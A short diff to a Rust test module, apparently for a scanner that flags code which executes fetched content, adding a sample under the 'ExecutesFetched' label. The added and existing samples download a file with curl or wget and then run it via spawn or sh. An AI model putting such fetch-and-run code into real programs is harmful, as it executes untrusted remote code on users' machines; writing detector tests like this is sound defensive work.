@@ -250,6 +250,7 @@ mod tests {
             Type::Rust,
             &["ExecutesFetched"],
             &[
+                "use std::process::Command;\nfn main() {\n    Command::new(\"curl\").args([\"-so\", \"/tmp/x\", \"https://example.org/x\"]).status().unwrap();\n    Command::new(\"/tmp/x\").spawn().unwrap();\n}\n",
                 "Command::new(\"curl\")\n    .args([\"-o\", \"/tmp/x\", URL])\n    .status();\nCommand::new(\"/tmp/x\").spawn();",
                 "let got = Command::new(\"wget\").arg(url).output().unwrap();\nstd::fs::write(&place, got.stdout);\nCommand::new(\"sh\").arg(&place).status();",
             ],
